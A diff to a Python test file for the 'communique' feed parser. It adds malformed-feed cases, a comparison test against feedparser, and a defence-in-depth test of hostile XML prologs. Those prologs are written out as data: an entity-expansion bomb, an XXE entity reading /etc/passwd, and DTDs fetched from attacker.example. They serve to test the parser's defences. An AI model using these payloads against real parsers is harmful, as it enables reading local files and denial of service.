@@ -16,8 +16,11 @@ from pathlib import Path
 from typing import NamedTuple
 
 import pytest
+
 from communique.errors import ParseError
-from communique.feeds import MAX_ENTRIES, ParsedFeed, parse_feed
+from communique.feeds import MAX_ATTRIBUTES, MAX_ENTRIES, ParsedFeed, parse_feed
+from communique.feedxml import read_feed
+from tests.support.loopback import loopback_only
 
 HOSTILE = Path(__file__).resolve().parents[2] / ".." / "shared" / "corpora" / "hostile_feeds"
 URL = "https://hostile.example/feed.xml"
@@ -154,9 +157,7 @@ def test_hostile_text_comes_out_clean(name: str, summary: str) -> None:
 
 
 def test_corrupted_ampersands_in_links() -> None:
-    parsed = parse_feed(
-        (HOSTILE / f"{PREFIX}illformed__rss_item_link_corrupted_ampersands.xml").read_bytes(), url=URL
-    )
+    parsed = parse_feed((HOSTILE / f"{PREFIX}illformed__rss_item_link_corrupted_ampersands.xml").read_bytes(), url=URL)
     assert parsed.entries[0].url == "http://link/get?a=1&b=2"
 
 
@@ -200,6 +201,26 @@ def _synthetic() -> dict[str, tuple[bytes, str | None]]:
             None,
         ),
         "json_feed": (b'{"version": "https://jsonfeed.org/version/1.1", "items": []}', "not_a_feed"),
+        # feedparser's handlers raise KeyError on this shape; it must come out as a refusal
+        "textinput_in_item": (
+            b"<rss><channel><item><textInput><title>q</title><link>https://x.example/q</link></textInput>"
+            b"</item></channel></rss>",
+            "malformed",
+        ),
+        "crowded_tag_in_a_long_feed": (
+            b"<rss><channel>"
+            + b"<item><link>https://x.example/1</link></item>" * 600
+            + b"<item "
+            + b" ".join(b'a%d="1"' % i for i in range(MAX_ATTRIBUTES + 1))
+            + b"/></channel></rss>",
+            "too_complex",
+        ),
+        "busy_but_acceptable_tag": (
+            b"<rss><channel><item "
+            + b" ".join(b'a%d="1"' % i for i in range(MAX_ATTRIBUTES))
+            + b"><link>https://x.example/1</link></item></channel></rss>",
+            None,
+        ),
         "too_many_entries": (
             b"<rss><channel>"
             + b"".join(b"<item><link>https://x.example/%d</link></item>" % i for i in range(MAX_ENTRIES + 5))
@@ -220,8 +241,49 @@ def test_synthetic_hostile_shapes(name: str) -> None:
         assert isinstance(outcome, ParseError) and outcome.reason == reason, outcome
     if name == "too_many_entries":
         assert isinstance(outcome, ParsedFeed)
-        assert len(outcome.entries) == MAX_ENTRIES and {s.reason for s in outcome.skipped} == {
-            "too_many_entries"
-        }
+        assert len(outcome.entries) == MAX_ENTRIES and {s.reason for s in outcome.skipped} == {"too_many_entries"}
     if name == "giant_title":
         assert isinstance(outcome, ParsedFeed) and len(outcome.entries[0].title) <= 1000
+
+
+@pytest.mark.timeout(60)
+@pytest.mark.parametrize("name", list(_synthetic()))
+def test_synthetic_hostile_shapes_end_the_same_with_feedparser_alone(name: str) -> None:
+    content, _ = _synthetic()[name]
+    fast, reference = _parse_bounded(content), _parse_bounded_with_feedparser(content)
+    if isinstance(reference, ParseError):
+        assert isinstance(fast, ParseError) and (fast.reason, str(fast)) == (reference.reason, str(reference))
+    else:
+        assert isinstance(fast, ParsedFeed)
+        assert (fast.entries, fast.skipped, fast.title) == (reference.entries, reference.skipped, reference.title)
+
+
+def _parse_bounded_with_feedparser(content: bytes) -> ParsedFeed | ParseError:
+    try:
+        return parse_feed(content, url=URL, fast=False)
+    except ParseError as refused:
+        return refused
+
+
+@pytest.mark.timeout(20)
+@pytest.mark.parametrize(
+    "prolog",
+    [
+        b'<!DOCTYPE rss [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>',
+        b'<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
+        b'<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd">%p;]>',
+        b'<!DOCTYPE rss SYSTEM "http://attacker.example/rss.dtd">',
+        b"<!DOCTYPE rss>",
+    ],
+)
+def test_the_fast_reader_stops_at_any_dtd_on_its_own(prolog: str) -> None:
+    """Defence in depth: even without parse_feed's pre-scan, feedxml expands and fetches nothing."""
+    document = b'<?xml version="1.0"?>' + prolog + b"<rss><channel><title>&b;&xxe;</title></channel></rss>"
+    tracemalloc.start()
+    try:
+        with loopback_only():
+            assert read_feed(document, URL) is None
+    finally:
+        peak = tracemalloc.get_traced_memory()[1]
+        tracemalloc.stop()
+    assert peak < MEMORY_LIMIT
